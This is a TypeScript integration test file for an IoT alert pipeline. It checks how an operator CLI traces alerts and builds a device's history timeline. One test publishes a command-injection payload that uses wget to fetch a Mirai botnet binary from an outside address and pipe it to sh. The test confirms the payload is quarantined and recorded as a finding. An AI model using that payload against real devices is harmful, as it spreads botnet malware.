/** An operator asks where an alert is and what happened to a device, and hears what was recorded. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sentinel } from "../../app/cli/sentinel.fixture.ts";
import { payloadLimitBytes } from "../../app/contract/limits.ts";
import { subjects, topics } from "../../app/contract/subjects.ts";
import type { NatsConnection } from "../../app/shared/nats.ts";
import type { Region } from "../../local/region.ts";
import { regionApi } from "../support/api-client.ts";
import { connectDevice, connectPublisher, type Inbox, registerDevice } from "../support/clients.ts";
import { connectAs, readStream } from "../support/stored.ts";
import { startTestRegion } from "../support/test-region.ts";

const soon = { timeout: 120_000, interval: 500 };

let region: Region;
let publisher: Inbox;
let operator: NatsConnection;
let settings: Record<string, string>;
let secret: string;

beforeAll(async () => {
  const counts = { core: 3, edges: 1, bridges: 1, inspectors: 1, auths: 1 } as const;
  region = await startTestRegion({ ...counts, console: true });
  publisher = await connectPublisher(region);
  operator = await connectAs(region, "operator");
  settings = {
    NATS_SERVERS: region.endpoints.natsServers.join(","),
    NATS_CA_FILE: region.certificates.caFile,
    OPERATOR_PASSWORD_FILE: region.secrets.passwordFile("operator"),
    SENTINEL_OPERATOR: "eve",
  };
  secret = await registerDevice(region, "pump-1");
});
afterAll(async () => {
  await publisher?.client.endAsync(true);
  await operator?.close();
  await region?.stop();
});

/** Publishes as publishers do, with the property that makes two publishes one. */
const publish = (client: string, id: string, more: object = {}) =>
  publisher.client.publishAsync(topics.alerts(client), JSON.stringify({ id, ...more }), {
    qos: 1,
    properties: { userProperties: { "alert-id": id } },
  });

interface Trace {
  readonly state: string;
  readonly by: string;
  readonly steps: { readonly time: string; readonly where: string; readonly what: string }[];
  readonly logins?: { readonly before?: string; readonly after?: string };
}
async function trace(id: string, client = "pump-1"): Promise<readonly Trace[]> {
  const args = ["alerts", "trace", id, "--client", client, "--json"];
  const { stdout, stderr } = await sentinel(args, settings);
  expect(stderr).toBe("");
  return JSON.parse(stdout).found;
}
/** What the only publish of this id is like, once it is in this state. */
async function traced(state: string, id: string, client?: string): Promise<Trace> {
  let last: readonly Trace[] = [];
  const states = async () => {
    last = await trace(id, client);
    return last.map((each) => each.state);
  };
  await expect.poll(states, soon).toEqual([state]);
  return last[0] as Trace;
}
const stations = ({ steps }: Trace) => steps.map(({ where }) => where);
const way = ["bridge", "INGRESS", "inspector"];

const login = () => connectDevice(region, { clientId: "pump-1", password: secret });

describe("an alert", () => {
  it("that was sent has its way with times in order, and the device's logins around it", async () => {
    await (await login()).client.endAsync(true);
    await publish("pump-1", "sent-1");
    const offline = await traced("sent", "sent-1");
    await (await login()).client.endAsync(true);

    expect(stations(offline)).toEqual([...way, "MQTT_ALERTS"]);
    expect(offline.by).toBe("alert-id");
    const times = offline.steps.map(({ time }) => Date.parse(time));
    expect(times).toEqual(times.toSorted((a, b) => a - b));
    expect(offline.logins).toEqual({ before: expect.any(String) });
    const later = async () => (await trace("sent-1"))[0]?.logins?.after;
    await expect.poll(later, soon).toEqual(expect.any(String));
  });

  it("that was published twice under one alert-id is there once; under another one, twice", async () => {
    await publish("pump-1", "twice-1");
    await publish("pump-1", "twice-1");
    await publish("pump-1", "twice-1", { other: true });

    const states = async () => (await trace("twice-1")).map((each) => each.state);
    await expect.poll(states, soon).toEqual(["sent", "sent"]);
  });

  it("that was held is told with its rule; dropped and released, with by whom and why", async () => {
    await publish("nobody-1", "held-1");
    await publish("nobody-2", "held-2");
    const held = await traced("held", "held-1", "nobody-1");
    await traced("held", "held-2", "nobody-2");
    expect(stations(held)).toEqual([...way, "QUARANTINE"]);
    expect(held.steps[2]?.what).toContain("recipient-unknown");

    const because = ["--reason", "a test of traces", "--yes"];
    await sentinel(["quarantine", "release", "--client", "nobody-1", ...because], settings);
    await sentinel(["quarantine", "drop", "--client", "nobody-2", ...because], settings);

    const released = await traced("released", "held-1", "nobody-1");
    expect(stations(released).sort()).toEqual(
      [...way, "QUARANTINE", "QUARANTINE", "MQTT_ALERTS"].sort(),
    );
    const dropped = await traced("dropped", "held-2", "nobody-2");
    expect(dropped.steps.at(-1)?.what).toBe("dropped by eve: a test of traces");
  });

  it("that could not be taken is a dead letter, with its reason", async () => {
    await publish("pump-1", "large-1", { filler: "x".repeat(payloadLimitBytes) });

    const { steps, by } = await traced("dead letter", "large-1");

    expect([by, steps.at(-1)?.what]).toEqual(["payload's id", "not taken: payload-too-large"]);
  });

  it("that waits for an inspector is in INGRESS", async () => {
    await region.process("inspector-1").stop();
    await publish("pump-1", "waiting-1");

    expect(stations(await traced("waiting", "waiting-1"))).toEqual(["bridge", "INGRESS"]);
    await region.process("inspector-1").start();
    await traced("sent", "waiting-1");
  });

  it("that never arrived is nowhere, and it is said where that was looked for", async () => {
    const args = ["alerts", "trace", "never-1", "--client", "pump-1"];
    const { code, stdout } = await sentinel(args, settings);

    expect(code).toBe(1);
    expect(stdout).toContain("never arrived, or gone");
    expect(stdout).toMatch(/INGRESS \d+, MQTT_ALERTS [1-9]\d*, QUARANTINE \d+, DEAD_LETTER \d+/);
    const unnamed = await sentinel(["alerts", "trace", "never-1"], settings);
    expect([unnamed.code, unnamed.stderr]).toEqual([2, expect.stringContaining("--client")]);
  });
});

it("the history of a device is one timeline of logins, refusals, changes, findings and decisions", async () => {
  const api = regionApi(region, "operator");
  const password = await registerDevice(region, "pump-9");
  const device = await connectDevice(region, { clientId: "pump-9", password });
  const attack = '{"command":"; wget http://203.0.113.9/bins/mirai.arm7 -O- | sh"}';
  await device.client.publishAsync(topics.reports("pump-9"), attack, { qos: 1 });
  const held = () => readStream(operator, "QUARANTINE", subjects.quarantine("device", "pump-9"));
  await expect.poll(async () => (await held()).length, soon).toBe(1);
  await device.client.endAsync(true);
  const wrong = connectDevice(region, { clientId: "pump-9", password: "wrong" });
  await expect(wrong).rejects.toThrow();
  await api("POST", "/api/v1/devices/pump-9/suspend");
  const drop = ["quarantine", "drop", "--client", "pump-9", "--reason", "an attack", "--yes"];
  expect((await sentinel(drop, settings)).code).toBe(0);

  const entries = async () => {
    const args = ["devices", "history", "pump-9", "--since", "1h", "--json"];
    const { stdout } = await sentinel(args, settings);
    const lines = stdout.split("\n").filter((line) => line !== "");
    return lines.map((line): { kind: string; what: string; time: string } => JSON.parse(line));
  };
  const recorded = [
    /^login admitted from /,
    /^refusal bad-secret, from /,
    /^registry suspended by api:operator: Success/,
    /^finding (high|critical), held: /,
    /^quarantine drop of message \d+ by eve: Success/,
  ];
  let last: Awaited<ReturnType<typeof entries>> = [];
  const missing = async () => {
    last = await entries();
    const told = last.map(({ kind, what }) => `${kind} ${what}`);
    return recorded.filter((pattern) => !told.some((line) => pattern.test(line)));
  };
  await expect.poll(missing, soon).toEqual([]);
  const times = last.map(({ time }) => time);
  expect(times).toEqual(times.toSorted());
});
